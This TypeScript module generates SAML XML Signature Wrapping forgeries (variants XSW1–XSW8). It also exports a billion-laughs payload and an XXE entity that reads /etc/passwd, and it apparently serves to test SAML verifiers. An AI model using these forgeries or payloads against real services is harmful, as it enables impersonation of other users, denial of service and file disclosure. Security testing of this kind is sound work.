/**
 * Signature wrapping: the eight classic ways to keep a signature valid and have something else read
 * (Somorovsky et al., "On Breaking SAML", 2012). Each takes a response that was signed properly and makes
 * one in which another subject stands where readers look.
 */

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

export type Wrapping = (xml: string, evilSubject: string) => string;

export const WRAPPINGS: Record<string, Wrapping> = {
  /** A changed copy of the response is the document; the signed one stands in its signature, at the end. */
  XSW1: (xml, subject) => {
    const signature = signatureOf(xml).replace('</ds:Signature>', `${bare(xml)}</ds:Signature>`);
    return forged(bare(xml), subject).replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
  },
  /** As 1; the signed response stands before the signature. */
  XSW2: (xml, subject) =>
    forged(bare(xml), subject).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${bare(xml)}${signatureOf(xml)}`,
    ),
  /** An unsigned assertion before the signed one. */
  XSW3: (xml, subject) =>
    xml.replace(ASSERTION, (signed) => `${forged(bare(signed), subject)}${signed}`),
  /** An unsigned assertion around the signed one. */
  XSW4: (xml, subject) =>
    xml.replace(ASSERTION, (signed) =>
      forged(bare(signed), subject).replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
    ),
  /** The copy with the signature is changed; the original stands at the end without one. */
  XSW5: (xml, subject) =>
    xml.replace(ASSERTION, (signed) => `${forged(signed, subject)}${bare(signed)}`),
  /** As 5; the original stands in the signature. */
  XSW6: (xml, subject) =>
    xml.replace(ASSERTION, (signed) =>
      forged(signed, subject).replace('</ds:Signature>', `${bare(signed)}</ds:Signature>`),
    ),
  /** The unsigned assertion stands in an extension, which schemas do not look into. */
  XSW7: (xml, subject) =>
    xml.replace(
      ASSERTION,
      (signed) => `<samlp:Extensions>${forged(bare(signed), subject)}</samlp:Extensions>${signed}`,
    ),
  /** As 6; the original stands in an object of the signature. */
  XSW8: (xml, subject) =>
    xml.replace(ASSERTION, (signed) =>
      forged(signed, subject).replace(
        '</ds:Signature>',
        `<ds:Object>${bare(signed)}</ds:Object></ds:Signature>`,
      ),
    ),
};

/** Which of them need the response signed; the others, the assertion. */
export const WRAPS_RESPONSE = ['XSW1', 'XSW2'];

/** Entities that double at each step: a few hundred bytes that become gigabytes. */
export const BILLION_LAUGHS = [
  '<!DOCTYPE lolz [<!ENTITY a0 "lol">',
  ...Array.from({ length: 30 }, (_, i) => `<!ENTITY a${i + 1} "&a${i};&a${i};">`),
  ']>',
].join('');

export const FILE_ENTITY = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>';

/** The same text with its own identifier and another subject. */
function forged(xml: string, subject: string): string {
  return xml
    .replace(/ ID="([^"]+)"/, ' ID="_forged"')
    .replace(/(<saml:Assertion[^>]*) ID="(?!_forged)[^"]+"/, '$1 ID="_forgedAssertion"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${subject}`);
}

function bare(xml: string): string {
  return xml.replace(SIGNATURE, '');
}

function signatureOf(xml: string): string {
  const [signature] = SIGNATURE.exec(xml) ?? [];
  if (signature === undefined) throw new Error('not signed');
  return signature;
}
